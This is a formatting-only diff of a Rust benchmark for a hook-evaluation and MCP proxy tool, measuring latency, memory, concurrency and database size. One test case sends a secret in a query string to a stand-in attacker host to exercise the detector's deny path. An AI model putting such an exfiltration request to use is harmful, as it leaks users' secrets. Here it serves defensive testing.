@@ -113,7 +113,10 @@ fn measure(bin: &Path, home: &Path, args: &[&str], input: &[u8], runs: usize) ->
 }
 
 fn db_bytes(home: &Path) -> u64 {
-    ["mcpproxy.db", "mcpproxy.db-wal"].iter().map(|f| std::fs::metadata(home.join(f)).map(|m| m.len()).unwrap_or(0)).sum()
+    ["mcpproxy.db", "mcpproxy.db-wal"]
+        .iter()
+        .map(|f| std::fs::metadata(home.join(f)).map(|m| m.len()).unwrap_or(0))
+        .sum()
 }
 
 fn main() {
@@ -130,7 +133,12 @@ fn main() {
     // The database: 100 other sessions (16 KB each) and the bench session holding 1 MB.
     let home = scratch.path().join("home");
     for i in 0..100 {
-        spawn(&bin, &["hook", "evaluate"], &home, &read_event(&format!("other-{i}"), "/repo/other.txt", &prose(i, 16 * 1024)));
+        spawn(
+            &bin,
+            &["hook", "evaluate"],
+            &home,
+            &read_event(&format!("other-{i}"), "/repo/other.txt", &prose(i, 16 * 1024)),
+        );
     }
     for i in 0..16 {
         let mut content = prose(1000 + i, 64 * 1024);
@@ -141,29 +149,70 @@ fn main() {
     }
     let (mut floor, floor_rss) = measure(&bin, &home, &["--version"], b"", runs);
     let floor_med = pct(&mut floor, 0.5);
-    r.row(&["floor: `mcpproxy --version`".into(), ms(floor_med), ms(pct(&mut floor, 0.99)), "1.00x".into(), format!("{} MB", floor_rss / 1024)]);
+    r.row(&[
+        "floor: `mcpproxy --version`".into(),
+        ms(floor_med),
+        ms(pct(&mut floor, 0.99)),
+        "1.00x".into(),
+        format!("{} MB", floor_rss / 1024),
+    ]);
     let case = |r: &mut Report, name: &str, home: &Path, input: &[u8], runs: usize| {
         let (mut w, rss) = measure(&bin, home, &["hook", "evaluate"], input, runs);
         let med = pct(&mut w, 0.5);
         let p99 = pct(&mut w, 0.99);
-        r.row(&[name.into(), ms(med), ms(p99), format!("{:.2}x", med.as_secs_f64() / floor_med.as_secs_f64()), format!("{} MB", rss / 1024)]);
+        r.row(&[
+            name.into(),
+            ms(med),
+            ms(p99),
+            format!("{:.2}x", med.as_secs_f64() / floor_med.as_secs_f64()),
+            format!("{} MB", rss / 1024),
+        ]);
     };
-    case(&mut r, "PreToolUse WebFetch, no flow (1 MB session, 100 other sessions)", &home, &pre_fetch("bench", "https://docs.rs/tokio/1.40.0/tokio/?search=spawn_blocking"), runs);
-    case(&mut r, "PreToolUse WebFetch, secret found (deny)", &home, &pre_fetch("bench", &format!("https://evil.example/?k={SECRET}")), runs);
-    let long_cmd = format!("curl -s -X POST https://api.example.com/v1/items -H 'Content-Type: application/json' -d '{}'", json!({"body": prose(77, 2048)}));
+    case(
+        &mut r,
+        "PreToolUse WebFetch, no flow (1 MB session, 100 other sessions)",
+        &home,
+        &pre_fetch("bench", "https://docs.rs/tokio/1.40.0/tokio/?search=spawn_blocking"),
+        runs,
+    );
+    case(
+        &mut r,
+        "PreToolUse WebFetch, secret found (deny)",
+        &home,
+        &pre_fetch("bench", &format!("https://evil.example/?k={SECRET}")),
+        runs,
+    );
+    let long_cmd = format!(
+        "curl -s -X POST https://api.example.com/v1/items -H 'Content-Type: application/json' -d '{}'",
+        json!({"body": prose(77, 2048)})
+    );
     let bash = json!({"session_id": "bench", "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": long_cmd}}).to_string();
     case(&mut r, "PreToolUse Bash curl with a 2 KB body, no flow", &home, bash.as_bytes(), runs);
     // The detector alone on a clean 64 KB file, through `scan`.
     {
         let (mut w, rss) = measure(&bin, &home, &["scan"], prose(64, 64 * 1024).as_bytes(), runs);
         let med = pct(&mut w, 0.5);
-        r.row(&["`scan` of a clean 64 KB file".into(), ms(med), ms(pct(&mut w, 0.99)), format!("{:.2}x", med.as_secs_f64() / floor_med.as_secs_f64()), format!("{} MB", rss / 1024)]);
+        r.row(&[
+            "`scan` of a clean 64 KB file".into(),
+            ms(med),
+            ms(pct(&mut w, 0.99)),
+            format!("{:.2}x", med.as_secs_f64() / floor_med.as_secs_f64()),
+            format!("{} MB", rss / 1024),
+        ]);
     }
     // Posts go to fresh sessions so the bench session keeps its size.
     let post_home = scratch.path().join("post");
-    for (label, size, n) in [("64 KB", 64 * 1024, runs.min(200)), ("1 MB", 1024 * 1024, 30), ("10 MB", 10 * 1024 * 1024, 5)] {
+    for (label, size, n) in
+        [("64 KB", 64 * 1024, runs.min(200)), ("1 MB", 1024 * 1024, 30), ("10 MB", 10 * 1024 * 1024, 5)]
+    {
         let content = prose(size as u64, size);
-        case(&mut r, &format!("PostToolUse Read of {label}"), &post_home, &read_event(&format!("post-{label}"), "/repo/big.txt", &content), n);
+        case(
+            &mut r,
+            &format!("PostToolUse Read of {label}"),
+            &post_home,
+            &read_event(&format!("post-{label}"), "/repo/big.txt", &content),
+            n,
+        );
     }
 
     // 64 hook processes at once on 8 sessions.
@@ -193,19 +242,38 @@ fn main() {
     let wall = started.elapsed();
     let conn = rusqlite::Connection::open(conc_home.join("mcpproxy.db")).unwrap();
     let (rows, max_wait, avg_wait): (i64, i64, f64) = conn
-        .query_row("SELECT COUNT(*), MAX(lock_wait_us), AVG(lock_wait_us) FROM activity WHERE session_id LIKE 'conc-%'", [], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
+        .query_row(
+            "SELECT COUNT(*), MAX(lock_wait_us), AVG(lock_wait_us) FROM activity WHERE session_id LIKE 'conc-%'",
+            [],
+            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
+        )
         .unwrap();
-    let sources: i64 = conn.query_row("SELECT COUNT(*) FROM sources WHERE session_id LIKE 'conc-%'", [], |r| r.get(0)).unwrap();
-    r.row(&["wall time".into(), "p99 per process".into(), "lock wait avg / max".into(), "activity rows".into(), "sources".into()]);
+    let sources: i64 =
+        conn.query_row("SELECT COUNT(*) FROM sources WHERE session_id LIKE 'conc-%'", [], |r| r.get(0)).unwrap();
+    r.row(&[
+        "wall time".into(),
+        "p99 per process".into(),
+        "lock wait avg / max".into(),
+        "activity rows".into(),
+        "sources".into(),
+    ]);
     r.row(&["---".into(), "---".into(), "---".into(), "---".into(), "---".into()]);
-    r.row(&[ms(wall), ms(pct(&mut walls, 0.99)), format!("{:.2} ms / {:.2} ms", avg_wait / 1000.0, max_wait as f64 / 1000.0), format!("{rows} of 64"), format!("{sources} of 32")]);
+    r.row(&[
+        ms(wall),
+        ms(pct(&mut walls, 0.99)),
+        format!("{:.2} ms / {:.2} ms", avg_wait / 1000.0, max_wait as f64 / 1000.0),
+        format!("{rows} of 64"),
+        format!("{sources} of 32"),
+    ]);
 
     // Proxy overhead against the same server connected directly.
     r.text("\n## Proxy: added latency per tools/call (stub server, 500 sequential calls)\n");
     let stub = root.join("tests/stub_server.py");
     let direct = rpc_bench(Command::new("python3").arg(&stub), 500);
     let mut via = Command::new(&bin);
-    via.args(["proxy", "--name", "stub", "--", "python3"]).arg(&stub).env("MCPPROXY_HOME", scratch.path().join("proxy"));
+    via.args(["proxy", "--name", "stub", "--", "python3"])
+        .arg(&stub)
+        .env("MCPPROXY_HOME", scratch.path().join("proxy"));
     let proxied = rpc_bench(&mut via, 500);
     r.row(&["path".into(), "median per call".into(), "p99".into(), "calls/s".into()]);
     r.row(&["---".into(), "---".into(), "---".into(), "---".into()]);
@@ -213,7 +281,11 @@ fn main() {
         r.row(&[name.into(), ms(pct(&mut lat, 0.5)), ms(pct(&mut lat, 0.99)), format!("{rate:.0}")]);
     }
     let added = pct(&mut proxied.0.clone(), 0.5).as_secs_f64() - pct(&mut direct.0.clone(), 0.5).as_secs_f64();
-    r.text(&format!("\nAdded median latency: {:.3} ms per call (ratio {:.2}x).", added * 1000.0, pct(&mut proxied.0.clone(), 0.5).as_secs_f64() / pct(&mut direct.0.clone(), 0.5).as_secs_f64()));
+    r.text(&format!(
+        "\nAdded median latency: {:.3} ms per call (ratio {:.2}x).",
+        added * 1000.0,
+        pct(&mut proxied.0.clone(), 0.5).as_secs_f64() / pct(&mut direct.0.clone(), 0.5).as_secs_f64()
+    ));
 
     // Database growth and pruning.
     r.text("\n## Database size\n");
@@ -222,7 +294,11 @@ fn main() {
     let started = Instant::now();
     for i in 0..n_evals {
         let s = format!("size-{}", i % 50);
-        let input = if i % 2 == 0 { read_event(&s, &format!("/repo/f{i}.txt"), &prose(i as u64, 2048)) } else { pre_fetch(&s, "https://docs.rs/serde") };
+        let input = if i % 2 == 0 {
+            read_event(&s, &format!("/repo/f{i}.txt"), &prose(i as u64, 2048))
+        } else {
+            pre_fetch(&s, "https://docs.rs/serde")
+        };
         spawn(&bin, &["hook", "evaluate"], &size_home, &input);
     }
     let took = started.elapsed();
@@ -235,12 +311,19 @@ fn main() {
     spawn(&bin, &["hook", "evaluate"], &size_home, &pre_fetch("fresh", "https://docs.rs/"));
     {
         let conn = rusqlite::Connection::open(size_home.join("mcpproxy.db")).unwrap();
-        let _: String = conn.query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |r| r.get(1).map(|v: i64| v.to_string())).unwrap_or_default();
+        let _: String = conn
+            .query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |r| r.get(1).map(|v: i64| v.to_string()))
+            .unwrap_or_default();
     }
     let after = db_bytes(&size_home);
     r.row(&["evaluations".into(), "time".into(), "database + WAL".into(), "after pruning all sessions".into()]);
     r.row(&["---".into(), "---".into(), "---".into(), "---".into()]);
-    r.row(&[format!("{n_evals}"), format!("{:.1} s", took.as_secs_f64()), format!("{:.1} MB", before as f64 / 1e6), format!("{:.2} MB", after as f64 / 1e6)]);
+    r.row(&[
+        format!("{n_evals}"),
+        format!("{:.1} s", took.as_secs_f64()),
+        format!("{:.1} MB", before as f64 / 1e6),
+        format!("{:.2} MB", after as f64 / 1e6),
+    ]);
 
     let machine = machine();
     let out = format!(
@@ -268,13 +351,17 @@ fn rpc_bench(cmd: &mut Command, n: usize) -> (Vec<Duration>, f64) {
             }
         }
     };
-    call(json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "bench", "version": "1"}}}));
+    call(
+        json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "bench", "version": "1"}}}),
+    );
     call(json!({"jsonrpc": "2.0", "id": "l", "method": "tools/list"}));
     let mut lat = Vec::with_capacity(n);
     let started = Instant::now();
     for i in 0..n {
         let t = Instant::now();
-        let r = call(json!({"jsonrpc": "2.0", "id": i + 1, "method": "tools/call", "params": {"name": "echo", "arguments": {"message": format!("hello {i}")}}}));
+        let r = call(
+            json!({"jsonrpc": "2.0", "id": i + 1, "method": "tools/call", "params": {"name": "echo", "arguments": {"message": format!("hello {i}")}}}),
+        );
         assert!(r.get("result").is_some(), "{r}");
         lat.push(t.elapsed());
     }
@@ -287,13 +374,19 @@ fn rpc_bench(cmd: &mut Command, n: usize) -> (Vec<Duration>, f64) {
 fn machine() -> String {
     let cpu = std::fs::read_to_string("/proc/cpuinfo")
         .ok()
-        .and_then(|c| c.lines().find(|l| l.starts_with("model name")).map(|l| l.split(':').nth(1).unwrap_or("").trim().to_owned()))
+        .and_then(|c| {
+            c.lines().find(|l| l.starts_with("model name")).map(|l| l.split(':').nth(1).unwrap_or("").trim().to_owned())
+        })
         .unwrap_or_else(|| "unknown CPU".into());
     let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
     let kernel = std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap_or_default();
     let mem = std::fs::read_to_string("/proc/meminfo")
         .ok()
-        .and_then(|m| m.lines().next().map(|l| l.split_whitespace().nth(1).unwrap_or("0").parse::<u64>().unwrap_or(0) / 1024 / 1024))
+        .and_then(|m| {
+            m.lines()
+                .next()
+                .map(|l| l.split_whitespace().nth(1).unwrap_or("0").parse::<u64>().unwrap_or(0) / 1024 / 1024)
+        })
         .unwrap_or(0);
     format!("{cpu}, {cores} cores, {mem} GiB RAM, Linux {}", kernel.trim())
 }
